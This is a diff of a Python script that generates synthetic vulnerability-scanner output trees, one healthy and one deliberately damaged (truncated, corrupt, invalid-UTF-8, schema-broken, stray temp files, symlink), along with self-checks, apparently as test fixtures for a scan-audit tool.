+            edir = "dataset_enhanced_checkpoint_checkpoints" if fork else "enhance_checkpoints"
+            for name, cp in ecps.items():
+                sc.pj(edir + "/" + name, cp)
+            sc.pj(edir + "/_summary.json", esum)
+        r = step_report("enhance", utc_z(t + 60, 5), 338.61, eu[2], eu[0], eu[1], estep,
+                        {"dataset_path": sc.p("dataset.json"), "analyzer_output_path": sc.p("analyzer_output.json"),
+                         "repo_path": sc.repo_path, "mode": "agentic"},
+                        {"enhanced_dataset_path": sc.p("dataset_enhanced.json")})
+        sc.pj("enhance.report.json", r)
+        reports.append(r)
+        analyze_input = enh
+        ds_name = "dataset_enhanced.json"
+    else:
+        skipped.append("enhance")
+    res, acps, asum, astep, au = build_analyze(sc, analyze_input, ds_name)
+    sc.pj("results.json", res)
+    if not legacy:
+        for name, cp in acps.items():
+            sc.pj("analyze_checkpoints/" + name, cp)
+        sc.pj("analyze_checkpoints/_summary.json", asum)
+    r = step_report("analyze", utc_z(t + 400, 77), 1099.35, au[2], au[0], au[1], astep,
+                    {"dataset_path": sc.p(ds_name), "model": sc.model, "limit": None},
+                    {"results_path": sc.p("results.json")})
+    sc.pj("analyze.report.json", r)
+    reports.append(r)
+    has_findings = astep["verdicts"]["vulnerable"] > 0 or astep["verdicts"]["bypassable"] > 0
+    experiment = res
+    results_path = sc.p("results.json")
+    verified = None
+    vstep = None
+    if sc.verify and has_findings:
+        verified, vcps, vsum, vstep, vu, expl = build_verify(sc, res)
+        sc.pj("results_verified.json", verified, ensure_ascii=(fork or False) if not legacy else False)
+        if fork:
+            sc.put("results_verified.json", py_json(verified, ensure_ascii=True, crlf=sc.crlf))
+            for rk, (route_key, v) in expl.items():
+                import re
+                sc.put("verify_explanations/%s.md" % re.sub(r'[\\/:*?"<>|]', "_", route_key),
+                       text(explanation_md(route_key, v), sc.crlf))
+        if not legacy:
+            for name, cp in vcps.items():
+                sc.pj("verify_checkpoints/" + name, cp)
+            sc.pj("verify_checkpoints/_summary.json", vsum)
+        r = step_report("verify", utc_z(t + 1501, 4), 1093.7, vu[2], vu[0], vu[1], vstep,
+                        {"results_path": sc.p("results.json"), "analyzer_output_path": sc.p("analyzer_output.json")},
+                        {"verified_results_path": sc.p("results_verified.json")})
+        sc.pj("verify.report.json", r)
+        reports.append(r)
+        experiment = verified
+        results_path = sc.p("results_verified.json")
+    else:
+        skipped.append("verify")
+    diff_block = diff_block_of(sc.diff[0], sc.diff[1]) if sc.diff else None
+    po = build_pipeline_output(sc, experiment, None if legacy else call_graph, reports, app_type, diff_block)
+    sc.pj("pipeline_output.json", po, ensure_ascii=False)
+    r = step_report("build-output", utc_z(t + 2700, 9), 0.31, 0.0, 0, 0, {}, {"results_path": results_path},
+                    {"pipeline_output_path": sc.p("pipeline_output.json")})
+    sc.pj("build-output.report.json", r)
+    reports.append(r)
+    dyn_path = None
+    if sc.dynamic and has_findings and po["findings"]:
+        dres, dcps, dsum, dstep, dmd, du = build_dynamic(sc, po)
+        sc.pj("dynamic_test_results.json", dres, ensure_ascii=False)
+        sc.put("DYNAMIC_TEST_RESULTS.md", text(dmd, sc.crlf))
+        if not legacy:
+            for name, cp in dcps.items():
+                sc.pj("dynamic_test_checkpoints/" + name, cp)
+            sc.pj("dynamic_test_checkpoints/_summary.json", dsum)
+        dyn_path = sc.p("dynamic_test_results.json")
+        r = step_report("dynamic-test", utc_z(t + 2701, 120), 1184.52, du[2], du[0], du[1], dstep,
+                        {"pipeline_output_path": sc.p("pipeline_output.json")},
+                        {"results_json_path": dyn_path, "results_md_path": None})
+        sc.pj("dynamic-test.report.json", r)
+        reports.append(r)
+    else:
+        skipped.append("dynamic-test")
+    summary_path = None
+    if sc.report:
+        outputs = {}
+        sc.put("report/SUMMARY_REPORT.md", text(summary_md(sc, po), sc.crlf))
+        summary_path = sc.p("report/SUMMARY_REPORT.md")
+        outputs["summary_path"] = summary_path
+        if has_findings:
+            for i, f in enumerate(po["findings"], 1):
+                sc.put("report/disclosures/DISCLOSURE_%02d_%s.md" % (i, f["short_name"].replace(" ", "_").upper()),
+                       text(disclosure_md(f), sc.crlf))
+            outputs["disclosures_dir"] = sc.p("report/disclosures")
+        r = step_report("report", utc_z(t + 3900, 42), 212.9, 0.734115, 31022, 3581,
+                        {"formats_generated": list(outputs.keys())}, {"pipeline_output_path": sc.p("pipeline_output.json")},
+                        outputs)
+        sc.pj("report.report.json", r)
+        reports.append(r)
+    else:
+        skipped.append("report")
+    # scan.report.json (spec §3.6)
+    a = astep["verdicts"]
+    m = {"total": astep["total_units"], "vulnerable": a["vulnerable"], "bypassable": a["bypassable"],
+         "inconclusive": a["inconclusive"], "protected": a["protected"], "safe": a["safe"], "errors": a["errors"],
+         "verified": 0, "stage2_agreed": 0, "stage2_disagreed": 0}
+    if vstep:
+        m["vulnerable"] = vstep["confirmed_vulnerabilities"]
+        m["bypassable"] = 0
+        m["safe"] = a["safe"] + vstep["disagreed"]
+        m["verified"] = vstep["findings_verified"]
+        m["stage2_agreed"] = vstep["agreed"]
+        m["stage2_disagreed"] = vstep["disagreed"]
+    summ = {"units_count": len(dataset["units"]), "language": sc.lang, "metrics": m,
+            "steps_completed": [x.get("step") for x in reports], "steps_skipped": skipped}
+    if fork:
+        summ["steps_resumed"] = ["parse", "app-context", "enhance"]
+    tc = sum(x.get("cost_usd", 0) for x in reports)
+    td = sum(x.get("duration_seconds", 0) for x in reports)
+    ti = sum(x["token_usage"]["input_tokens"] for x in reports)
+    to = sum(x["token_usage"]["output_tokens"] for x in reports)
+    r = {"step": "scan", "status": "success", "timestamp": utc_z(t + 4200, 15),
+         "duration_seconds": round(td, 2), "cost_usd": round(tc, 6),
+         "token_usage": {"input_tokens": ti, "output_tokens": to, "total_tokens": ti + to},
+         "summary": summ, "inputs": {"repo_path": sc.out_dir},
+         "outputs": {"dataset_path": sc.p("dataset.json"),
+                     "enhanced_dataset_path": sc.p("dataset_enhanced.json") if sc.enhance else None,
+                     "results_path": sc.p("results.json"),
+                     "verified_results_path": sc.p("results_verified.json") if vstep else None,
+                     "pipeline_output_path": sc.p("pipeline_output.json"),
+                     "summary_path": summary_path, "dynamic_test_path": dyn_path},
+         "errors": []}
+    sc.pj("scan.report.json", r)
+    return sc
+
+
+# ---------------------------------------------------------------------------------------------
+# Projects (Go files) and writing
+# ---------------------------------------------------------------------------------------------
+
+
+def project_json(name, repo_path, lang, sha, created, url=None):
+    d = {"name": name}
+    if url:
+        d["repo_url"] = url
+    d["repo_path"] = repo_path
+    d["source"] = "remote" if url else "local"
+    d["language"] = lang
+    d["commit_sha"] = sha
+    d["commit_sha_short"] = sha[:11]
+    d["created_at"] = created
+    return d
+
+
+def meta_json(kind, sha, started, finished, lang, branch="main", status="success", base=None, scope=None):
+    d = {"kind": kind, "commit": sha}
+    if branch:
+        d["branch"] = branch
+    d["started_at"] = started
+    if finished:
+        d["finished_at"] = finished
+    d["status"] = status
+    d["language"] = lang
+    if base:
+        d["base"] = base
+    if scope:
+        d["scope"] = scope
+    return d
+
+
+def write_files(base, files):
+    for rel in sorted(files):
+        p = Path(base) / rel
+        p.parent.mkdir(parents=True, exist_ok=True)
+        with open(p, "wb") as f:
+            f.write(files[rel])
+
+
+def sha40(rng):
+    return "".join(rng.choice("0123456789abcdef") for _ in range(40))
+
+
+def project_scan(root, name, sc_kwargs, units, sha, lang="python", url=None, meta=True, kind="full",
+                 project=True, diff=None, era="fix", start="2026-05-14T09:00:00", write_project=True,
+                 status="success", branch="main"):
+    """Build one project scan at root/<name>/scans/<sha11>/<lang>/.  Returns (Scan, scan_dir)."""
+    short = sha if sha == "nogit" else sha[:11]
+    proj_dir = Path(root) / name
+    run_dir = proj_dir / "scans" / short
+    scan_dir = run_dir / lang if era != "pre-lang" else run_dir
+    home_scan = "%s/projects/%s/scans/%s/%s" % (OPENANT_HOME, name, short, lang)
+    repo_path = "%s/projects/%s/repo" % (OPENANT_HOME, name) if url else "/home/dev/src/%s" % name.split("/")[-1]
+    kw = dict(out_dir=home_scan, repo_path=repo_path, repo_name=name, repo_url=url or "",
+              commit=sha, lang=lang, era=era, start=start, diff=diff)
+    kw.update(sc_kwargs)
+    sc = Scan(name, units, **kw)
+    build_scan(sc)
+    write_files(scan_dir, sc.files)
+    t0 = T(start)
+    if write_project:
+        pj = project_json(name, repo_path, lang, sha, rfc3339(t0 - 600), url=url)
+        (proj_dir).mkdir(parents=True, exist_ok=True)
+        (proj_dir / "project.json").write_bytes(go_json(pj))
+    if meta:
+        mj = meta_json(kind, sha, rfc3339(t0 - 5), rfc3339(t0 + 4201) if status != "running" else None, lang,
+                       branch=branch, status=status,
+                       base=diff[0]["base_sha"] if diff else None, scope=diff[0]["scope"] if diff else None)
+        (run_dir / "meta.json").write_bytes(go_json(mj))
+    return sc, scan_dir
+
+
+# ---------------------------------------------------------------------------------------------
+# The healthy tree
+# ---------------------------------------------------------------------------------------------
+
+
+def storefront_diff():
+    manifest = {"base_ref": "origin/main", "base_sha": "4be1c0de9a8f7e6d5c4b3a291807f6e5d4c3b2a1",
+                "head_sha": "9f8e7d6c5b4a39281706f5e4d3c2b1a0fedcba98", "scope": "changed_functions",
+                "pr_number": 482,
+                "changed_files": ["docs/Q&A <draft>.md", "src/lib/format.js", "src/lib/merge.js", "src/routes/admin.js", "src/routes/health.js",
+                                  "src/routes/orders.js", "src/routes/search.js"],
+                "hunks": {"src/lib/format.js": [[1, 6]], "src/lib/merge.js": [[3, 9]],
+                          "src/routes/admin.js": [[12, 20]], "src/routes/health.js": [[40, 42]],
+                          "src/routes/orders.js": [[5, 11], [30, 31]], "src/routes/search.js": [[7, 12]]}}
+    stats = {"total": 10, "selected": 6, "scope": "changed_functions", "base_ref": "origin/main",
+             "base_sha": manifest["base_sha"], "head_sha": manifest["head_sha"], "pr_number": 482,
+             "changed_files": 7, "fallback_file_match": 1, "callers_added": 1}
+    return manifest, stats
+
+
+def gen_healthy(root):
+    P = Path(root) / "projects"
+    rng = random.Random(20260514)
+    out = {}
+    # 1. acme-webapp, fix branch, full scan with --verify and dynamic tests (restored run)
+    sha_a = "3f9c2e1b7a64d05e8c1f2a3b4c5d6e7f80912abc"
+    out["acme"] = project_scan(P, "acme-webapp", dict(seed=11), acme_units("a"), sha_a,
+                               url="https://github.com/acme/acme-webapp", start="2026-05-14T09:00:00")
+    # 5b. a second acme scan at another commit: fresh (not restored) run
+    sha_b = "a1b2c3d4e5f60718293a4b5c6d7e8f9012345678"
+    out["acme2"] = project_scan(P, "acme-webapp", dict(seed=12, restored=False, consistency_update=True),
+                                acme_units("b"), sha_b, url="https://github.com/acme/acme-webapp",
+                                start="2026-05-15T14:30:00", write_project=False)
+    # 2. widgets/storefront: javascript incremental diff scan
+    sha_s = "9f8e7d6c5b4a39281706f5e4d3c2b1a0fedcba98"
+    out["storefront"] = project_scan(P, "widgets/storefront", dict(seed=21, verify=False, dynamic=False),
+                                     storefront_units(), sha_s, lang="javascript",
+                                     url="https://github.com/widgets/storefront", kind="diff",
+                                     diff=storefront_diff(), start="2026-05-13T16:05:00", branch="feature/pr-482")
+    # 3. legacy-tool: upstream between 3b9ceeb and d710b90 (language level, no checkpoints, no meta)
+    sha_l = "0d1e2f3a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e"
+    out["legacy"] = project_scan(P, "legacy-tool", dict(seed=31, level="all"), legacy_units(), sha_l, era="legacy",
+                                 meta=False, start="2026-03-02T10:00:00")
+    # 4. forkproj: fork master line
+    sha_f = "5c3855e0a1b2c3d4e5f60718293a4b5c6d7e8f90"
+    out["fork"] = project_scan(P, "forkproj", dict(seed=41, model="sonnet"), fork_units(), sha_f, era="fork",
+                               meta=False, start="2026-04-29T08:00:00")
+    # 5c. a local non-git project: scans/nogit/
+    out["nogit"] = project_scan(P, "scratchpad", dict(seed=51, verify=False, dynamic=False),
+                                small_units("go", "cmd/server", 6), "nogit", lang="go",
+                                start="2026-05-14T18:00:00", branch=None)
+    # 5a. ad-hoc scan dir (python CLI without --output): no meta.json, no project.json
+    adhoc = Path(root) / "open_ant_k2j3h4x9"
+    sc = Scan("adhoc", small_units("python", "toolbox", 7), lang="python", seed=61, start="2026-05-14T20:00:00",
+              verify=False, dynamic=False, context=False, report=False, out_dir="/tmp/open_ant_k2j3h4x9",
+              repo_path="/home/dev/src/toolbox", repo_name="toolbox", repo_url="", commit=None)
+    build_scan(sc)
+    write_files(adhoc, sc.files)
+    out["adhoc"] = (sc, adhoc)
+    return out
+
+
+# ---------------------------------------------------------------------------------------------
+# The damaged tree
+# ---------------------------------------------------------------------------------------------
+
+
+class Damage:
+    def __init__(self, root):
+        self.root = Path(root)
+        self.findings = []
+        self.originals = {}   # rel path -> original bytes (for the self-check)
+
+    def rel(self, p):
+        return str(Path(p).relative_to(self.root))
+
+    def add(self, p, kind, file_kind, offset):
+        self.findings.append({"path": self.rel(p), "kind": kind, "file_kind": file_kind, "offset": offset})
+
+    # -- damage primitives (each leaves exactly one per-file finding) --
+    def empty(self, p, fk, content=b""):
+        self.originals[self.rel(p)] = Path(p).read_bytes()
+        Path(p).write_bytes(content)
+        self.add(p, "empty", fk, 0)
+
+    def truncate(self, p, fk, at):
+        data = Path(p).read_bytes()
+        self.originals[self.rel(p)] = data
+        assert 0 < at < len(data)
+        Path(p).write_bytes(data[:at])
+        self.add(p, "truncated", fk, at)
+
+    def zero_fill(self, p, fk, keep):
+        data = Path(p).read_bytes()
+        self.originals[self.rel(p)] = data
+        Path(p).write_bytes(data[:keep] + b"\0" * (len(data) - keep))
+        self.add(p, "zero-filled", fk, keep)
+
+    def corrupt(self, p, fk, data, offset):
+        self.originals[self.rel(p)] = Path(p).read_bytes()
+        Path(p).write_bytes(data)
+        self.add(p, "corrupt", fk, offset)
+
+    def replace_json(self, p, fk, kind, obj, ensure_ascii=True):
+        self.originals[self.rel(p)] = Path(p).read_bytes()
+        Path(p).write_bytes(py_json(obj, ensure_ascii=ensure_ascii))
+        self.add(p, kind, fk, None)
+
+
+def small_scan(P, name, seed, units=None, era="fix", start="2026-05-20T09:00:00", sha=None, **kw):
+    rng = random.Random(seed)
+    sha = sha or sha40(rng)
+    units = units or small_units("python", "app", 7)
+    return project_scan(P, name, dict(seed=seed, **kw), units, sha, era=era, start=start,
+                        meta=(era == "fix"), url=None)
+
+
+def gen_damaged(root):
+    root = Path(root)
+    P = root / "projects"
+    D = Damage(root)
+    rng = random.Random(1337)
+
+    # ---- empty --------------------------------------------------------------------------------
+    sc, d = small_scan(P, "damaged-empty", 101)
+    D.empty(d / "analyze_checkpoints/_summary.json", "checkpoint-summary")
+    D.empty(d / "analyze_checkpoints" / (safe_filename("app/util.py:normalize") + ".json"), "checkpoint")
+    D.empty(d / "results.json", "results")
+    D.empty(d / "application_context.json", "application-context", content=b"\n  \n\t\n")
+
+    # ---- truncated ----------------------------------------------------------------------------
+    sc, d = small_scan(P, "damaged-truncation", 102, units=small_units("python", "app", 8, big_unit=True))
+    p = d / "results.json"
+    n = len(p.read_bytes())
+    D.truncate(p, "results", rng.randint(n // 4, 3 * n // 4))
+    p = d / "dataset_enhanced.json"
+    data = p.read_bytes()
+    i = data.index(b'"primary_code": "') + len(b'"primary_code": "') + 25   # inside the code string
+    D.truncate(p, "dataset-enhanced", i)
+    p = d / "results_verified.json"            # ensure_ascii=False: raw UTF-8
+    data = p.read_bytes()
+    i = data.index("é".encode()) + 1            # between the two bytes of é (C3 A9)
+    D.truncate(p, "results-verified", i)
+    p = d / "analyze_checkpoints" / (safe_filename("app/engine.py:Engine.process_batch") + ".json")
+    data = p.read_bytes()
+    assert len(data) > 8192
+    # torn after the 8+ KB of embedded code, in the middle of a number token ("input_tokens": 65|43)
+    i = data.rindex(b'"input_tokens": ') + len(b'"input_tokens": ') + 2
+    assert i > 8192 and data[i - 1:i + 1].isdigit()
+    D.truncate(p, "checkpoint", i)
+
+    # ---- zero-filled --------------------------------------------------------------------------
+    sc, d = small_scan(P, "damaged-zero-filled", 103)
+    p = d / "analyze_checkpoints" / (safe_filename("app/auth.py:check_token") + ".json")
+    D.zero_fill(p, "checkpoint", 0)
+    p = d / "pipeline_output.json"
+    n = len(p.read_bytes())
+    D.zero_fill(p, "pipeline-output", 4096 if n > 8192 else n // 2)
+
+    # ---- corrupt ------------------------------------------------------------------------------
+    sc, d = small_scan(P, "damaged-corrupt", 104)
+    p = d / "dataset.json"
+    data = p.read_bytes()
+    garbage = b'\n  }\n}ed": true\n    }\n  ]\n}'
+    D.corrupt(p, "dataset", data + garbage, len(data) + 1 + 2)   # whitespace "\n  " skipped
+    p = d / "enhance.report.json"
+    data = p.read_bytes()
+    D.corrupt(p, "step-report", data + data, len(data))         # a double write
+    p = d / "application_context.json"
+    data = p.read_bytes()
+    D.corrupt(p, "application-context", b"\xef\xbb\xbf" + data, 0)
+    p = d / "call_graph.json"
+    data = bytearray(p.read_bytes())
+    i = data.index(b'"reverse_call_graph": {') + len(b'"reverse_call_graph"')   # the ':' after a key
+    assert data[i:i + 1] == b":"
+    data[i] = ord(";")
+    D.corrupt(p, "call-graph", bytes(data), i)
+
+    # ---- invalid-utf8 -------------------------------------------------------------------------
+    # (a) a Windows-era scan (pre-3cdca87: locale cp1252, text-mode CRLF).  Units carry only
+    #     cp1252-encodable non-ASCII; the ensure_ascii=False files hold cp1252 bytes.
+    win_units = small_units("python", "app", 6, extra_nonascii=True)
+    sc, d = small_scan(P, "damaged-invalid-utf8", 105, units=win_units, crlf=True, encoding="cp1252",
+                       start="2026-05-05T09:00:00")
+    for rel, fk in (("results_verified.json", "results-verified"), ("pipeline_output.json", "pipeline-output"),
+                    ("dynamic_test_results.json", "dynamic-test-results")):
+        p = d / rel
+        data = p.read_bytes()
+        try:
+            data.decode("utf-8")
+        except UnicodeDecodeError as e:
+            D.add(p, "invalid-utf8", fk, e.start)
+            D.originals[D.rel(p)] = None
+    # (b) a stray 0xFF inside a string of an otherwise fine UTF-8 scan
+    sc, d = small_scan(P, "damaged-invalid-utf8", 106, start="2026-05-21T09:00:00")
+    p = d / "results.json"
+    data = p.read_bytes()
+    i = data.index(b'"reasoning": "') + len(b'"reasoning": "') + 4
+    D.originals[D.rel(p)] = data
+    p.write_bytes(data[:i] + b"\xff" + data[i:])
+    D.add(p, "invalid-utf8", "results", i)
+
+    # ---- schema -------------------------------------------------------------------------------
+    sc, d = small_scan(P, "damaged-schema", 107)
+    p = d / "results.json"
+    obj = json.loads(p.read_bytes())
+    obj["results"] = {r["unit_id"]: r for r in obj["results"]}
+    D.replace_json(p, "results", "schema", obj)
+    p = d / "analyze.report.json"
+    obj = json.loads(p.read_bytes())
+    del obj["status"]
+    D.replace_json(p, "step-report", "schema", obj)
+    p = d / "verify_checkpoints/_summary.json"
+    obj = json.loads(p.read_bytes())
+    obj["phase"] = 3
+    D.replace_json(p, "checkpoint-summary", "schema", obj)
+    p = d / "analyze_checkpoints" / (safe_filename("app/config.py:load") + ".json")
+    obj = json.loads(p.read_bytes())
+    del obj["result"]
+    D.replace_json(p, "checkpoint", "schema", obj)
+    p = d / "pipeline_output.json"
+    obj = json.loads(p.read_bytes())
+    del obj["findings"][0]["stage2_verdict"]
+    D.replace_json(p, "pipeline-output", "schema", obj, ensure_ascii=False)
+    p = d / "dataset.json"
+    obj = json.loads(p.read_bytes())
+    del obj["units"]
+    D.replace_json(p, "dataset", "schema", obj)
+
+    # ---- checkpoint-missing-id ----------------------------------------------------------------
+    sc, d = small_scan(P, "damaged-checkpoint-id", 108)
+    p = d / "analyze_checkpoints" / (safe_filename("app/views.py:show_page") + ".json")
+    obj = json.loads(p.read_bytes())
+    del obj["id"]
+    D.replace_json(p, "checkpoint", "checkpoint-missing-id", obj)
+
+    # ---- checkpoint-name-mismatch -------------------------------------------------------------
+    units = small_units("python", "app", 7)
+    long_id = ("app/integrations/partners/enterprise_resource_planning/adapters/legacy_soap_bridge/v3/"
+               "transformers/outbound/purchase_orders/line_items/normalisation/pipeline/stages/"
+               "currency.py:CurrencyNormalisationStage.convert_line_item_amounts_to_base_currency")
+    units.append(U(long_id, "safe", "safe", unit_type="method", cls="CurrencyNormalisationStage", args="self, item"))
+    sc, d = small_scan(P, "damaged-checkpoint-name", 109, units=units)
+    assert len(long_id.replace("/", "__").replace(":", "_")) > 233
+    cpd = d / "enhance_checkpoints"
+    src = cpd / (safe_filename("app/util.py:normalize") + ".json")
+    dst = cpd / (safe_filename("app/config.py:load") + ".json")
+    D.originals[D.rel(dst)] = dst.read_bytes()
+    shutil.copyfile(src, dst)                  # copied under another unit's name
+    D.add(dst, "checkpoint-name-mismatch", "checkpoint", None)
+    cpd = d / "analyze_checkpoints"
+    good = cpd / (safe_filename(long_id) + ".json")
+    bad = cpd / (long_id.replace("/", "__").replace(":", "_")[:250] + ".json")   # plain truncation, no hash
+    good.rename(bad)
+    D.add(bad, "checkpoint-name-mismatch", "checkpoint", None)
+
+    # ---- stray-temp ---------------------------------------------------------------------------
+    sc, d = small_scan(P, "damaged-temps", 110)
+    run_dir = d.parent
+    res = (d / "results.json").read_bytes()
+    (d / "results.json").unlink()              # target missing, complete temp beside it (salvageable)
+    (d / ".tmp-results.json-k3j_a9xq.json").write_bytes(res)
+    D.add(d / ".tmp-results.json-k3j_a9xq.json", "stray-temp", "temp", None)
+    enh = (d / "dataset_enhanced.json").read_bytes()
+    (d / ".tmp-dataset_enhanced.json-ab12cd34.json").write_bytes(enh[:len(enh) * 2 // 3])
+    D.add(d / ".tmp-dataset_enhanced.json-ab12cd34.json", "stray-temp", "temp", None)
+    meta = (run_dir / "meta.json").read_bytes()
+    (run_dir / "meta.json.tmp.48213").write_bytes(meta.replace(b'"success"', b'"running"'))
+    D.add(run_dir / "meta.json.tmp.48213", "stray-temp", "temp", None)
+    (d / ".tmpAb3dE9").write_bytes(res[:4096])
+    D.add(d / ".tmpAb3dE9", "stray-temp", "temp", None)
+    po = (d / "pipeline_output.json").read_bytes()
+    (d / ".pipeline_output.json.Xy12Ab").write_bytes(po)
+    D.add(d / ".pipeline_output.json.Xy12Ab", "stray-temp", "temp", None)
+    (d / ".atomicwrite8ldufS").mkdir()
+    (d / ".atomicwrite8ldufS/tmpfile.tmp").write_bytes(po[:1000])
+    D.add(d / ".atomicwrite8ldufS", "stray-temp", "temp", None)
+    rv = (d / "results_verified.json").read_bytes()
+    (d / ".results_verified.json.scanaudit-Ab12Cd.tmp").write_bytes(rv)
+    D.add(d / ".results_verified.json.scanaudit-Ab12Cd.tmp", "stray-temp", "temp", None)
+    # the fork's mkstemp(suffix=".tmp") beside a fork-layout results_verified.json
+    sc, d = small_scan(P, "damaged-temps", 111, era="fork", start="2026-04-29T12:00:00", model="sonnet")
+    (d / "tmpk3j_a9xq.tmp").write_bytes((d / "results_verified.json").read_bytes())
+    D.add(d / "tmpk3j_a9xq.tmp", "stray-temp", "temp", None)
+
+    # ---- backup -------------------------------------------------------------------------------
+    sc, d = small_scan(P, "damaged-backup", 112)
+    cur = (d / "results.json").read_bytes()
+    torn = cur[:len(cur) // 3]
+    bdir = d / ".scanaudit/backups/20261101T101010Z"
+    bdir.mkdir(parents=True)
+    (bdir / "results.json").write_bytes(torn)
+    manifest = {"entries": [{"path": "results.json", "action": "regenerate", "reason": "truncated",
+                             "old_sha256": hashlib.sha256(torn).hexdigest(),
+                             "new_sha256": hashlib.sha256(cur).hexdigest(),
+                             "bytes": len(torn), "backed_up_at": "2026-11-01T10:10:10Z"}]}
+    (bdir / "manifest.json").write_bytes((json.dumps(manifest, indent=2) + "\n").encode())
+    D.add(bdir, "backup", "backup", None)
+
+    # ---- generic JSON outside any scan dir ----------------------------------------------------
+    notes = P / "notes"
+    notes.mkdir(parents=True)
+    ok = {"title": "Triage notes", "owner": "sec-team", "items": [{"id": 1, "text": "re-run verify on acme"},
+                                                                   {"id": 2, "text": "clean temp files — weekly"}]}
+    (notes / "ok.json").write_bytes(py_json(ok, ensure_ascii=False))
+    full = py_json(ok, ensure_ascii=False)
+    D.originals[D.rel(notes / "broken.json")] = full
+    (notes / "broken.json").write_bytes(full[:len(full) - 30])
+    D.add(notes / "broken.json", "truncated", "generic-json", len(full) - 30)
+
+    # ---- symlink ------------------------------------------------------------------------------
+    sc, d = small_scan(P, "damaged-symlink", 113)
+    link = d / "link-to-results.json"
+    target = os.path.relpath(OUTSIDE, d)
+    os.symlink(target, link)
+    D.add(link, "symlink", "symlink", None)
+
+    D.findings.sort(key=lambda f: (f["path"], f["kind"]))
+    return D
+
+
+# ---------------------------------------------------------------------------------------------
+# Self-checks
+# ---------------------------------------------------------------------------------------------
+
+
+def check_healthy(root, built):
+    n = 0
+    for dirpath, dirnames, filenames in os.walk(root):
+        dirnames.sort()
+        for fn in sorted(filenames):
+            p = os.path.join(dirpath, fn)
+            if fn.endswith(".json"):
+                with open(p, encoding="utf-8") as f:
+                    json.load(f)
+                n += 1
+                if os.path.basename(os.path.dirname(p)).endswith("_checkpoints") and fn != "_summary.json":
+                    with open(p, encoding="utf-8") as f:
+                        obj = json.load(f)
+                    assert safe_filename(obj["id"]) + ".json" == fn, (p, obj["id"])
+    # cross-file consistency of every built scan
+    for key, (sc, d) in built.items():
+        d = Path(d)
+        res = json.loads((d / "results.json").read_bytes())
+        fork = sc.era == "fork"
+        assert res["metrics"]["total"] == len(res["results"]), key
+        c = count_verdicts(res["results"], fork=fork)
+        for k, v in c.items():
+            assert res["metrics"][k] == v, (key, k)
+        po = json.loads((d / "pipeline_output.json").read_bytes())
+        ids = [f["id"] for f in po["findings"]]
+        assert ids == ["VULN-%03d" % (i + 1) for i in range(len(ids))], key
+        if (d / "dynamic_test_results.json").exists():
+            dy = json.loads((d / "dynamic_test_results.json").read_bytes())
+            assert dy["total_findings"] == len(po["findings"]), key
+            assert [r["finding_id"] for r in dy["results"]] == ids, key
+        if (d / "results_verified.json").exists():
+            rv = json.loads((d / "results_verified.json").read_bytes())
+            for r in rv["results"]:
+                if r.get("finding") in ("vulnerable", "bypassable") or "verification" in r:
+                    pass
+            assert rv["metrics"]["total"] == len(rv["results"])
+        # Stage-1 consistency groups: no inconsistent group unless an update was recorded
+        groups = {}
+        for r in res["results"]:
+            rk = r.get("route_key", "")
+            if ":" in rk:
+                fp, _, fn_ = rk.rpartition(":")
+                fp = fp.split("/")[-1]
+                if "." in fn_:
+                    norm = "*." + fn_.rsplit(".", 1)[1]
+                else:
+                    s = fn_.lstrip("_")
+                    changed = True
+                    while changed:
+                        changed = False
+                        for pre in ("build_", "get_", "create_", "make_", "init_", "setup_", "default_", "cached_", "new_"):
+                            if s.startswith(pre):
+                                s = s[len(pre):]
+                                changed = True
+                                break
+                    norm = "*_" + s
+                pat = fp + ":" + norm
+            else:
+                pat = rk
+            groups.setdefault(pat, []).append(r)
+        cls = lambda v: {"VULNERABLE": "V", "BYPASSABLE": "V", "SAFE": "S", "PROTECTED": "S"}.get(v, v)
+        for pat, rs in groups.items():
+            if len(rs) > 1:
+                vs = {cls(r.get("verdict")) for r in rs}
+                ok = len(vs) == 1 or any("stage1_consistency_update" in r for r in rs)
+                assert ok, (key, pat, [r.get("unit_id") for r in rs])
+    return n
+
+
+def check_damaged(D):
+    for f in D.findings:
+        p = D.root / f["path"]
+        kind = f["kind"]
+        if kind == "symlink":
+            assert p.is_symlink()
+            continue
+        if kind in ("backup",):
+            assert (p / "manifest.json").is_file()
+            continue
+        if kind == "stray-temp":
+            assert p.exists()
+            continue
+        data = p.read_bytes()
+        off = f["offset"]
+        if kind == "empty":
+            assert data.strip() == b"", p
+        elif kind == "truncated":
+            assert off == len(data)
+            orig = D.originals[f["path"]]
+            assert orig.startswith(data) and len(orig) > len(data)
+            try:
+                s = data.decode("utf-8")
+            except UnicodeDecodeError as e:
+                assert e.reason == "unexpected end of data", p   # cut inside a character
+                s = data[:e.start].decode("utf-8")
+            try:
+                json.loads(s)
+                raise AssertionError("truncated file parses: %s" % p)
+            except json.JSONDecodeError as e:
+                # the error is inside the last (unfinished) token or at the very end
+                assert e.pos >= len(s.rstrip()) - 8 or "Unterminated string" in e.msg, (p, e)
+        elif kind == "zero-filled":
+            assert data[off:] == b"\0" * (len(data) - off) and (off == 0 or data[off - 1:off] != b"\0")
+            assert len(data) == len(D.originals[f["path"]])
+        elif kind == "corrupt":
+            if data.startswith(b"\xef\xbb\xbf"):
+                assert off == 0
+                continue
+            s = data.decode("utf-8")
+            try:
+                json.loads(s)
+                raise AssertionError("corrupt file parses: %s" % p)
+            except json.JSONDecodeError as e:
+                assert e.pos == off, (p, e.pos, off, e.msg)   # ascii-only: char pos == byte pos
+                assert off < len(data.rstrip())
+                assert b"\0" not in data
+        elif kind == "invalid-utf8":
+            try:
+                data.decode("utf-8")
+                raise AssertionError("valid utf-8: %s" % p)
+            except UnicodeDecodeError as e:
+                assert e.start == off and e.reason != "unexpected end of data", (p, e)
+        elif kind in ("schema", "checkpoint-missing-id", "checkpoint-name-mismatch"):
+            obj = json.loads(data.decode("utf-8"))
+            if kind == "checkpoint-missing-id":
+                assert "id" not in obj
+            if kind == "checkpoint-name-mismatch":
+                assert safe_filename(obj["id"]) + ".json" != p.name
+        else:
+            raise AssertionError(kind)
+
+
+# ---------------------------------------------------------------------------------------------
+# Modes
+# ---------------------------------------------------------------------------------------------
+
+
+def regenerate():
+    t0 = time.time()
+    for d in (HEALTHY, DAMAGED, EXPECTED):
+        if d.exists():
+            shutil.rmtree(d)
+    if OUTSIDE.exists() or OUTSIDE.is_symlink():
+        OUTSIDE.unlink()
+    built = gen_healthy(HEALTHY)
+    # the symlink target outside both trees: a torn results.json
+    full = (Path(built["adhoc"][1]) / "results.json").read_bytes()
+    OUTSIDE.write_bytes(full[:len(full) // 2])
+    D = gen_damaged(DAMAGED)
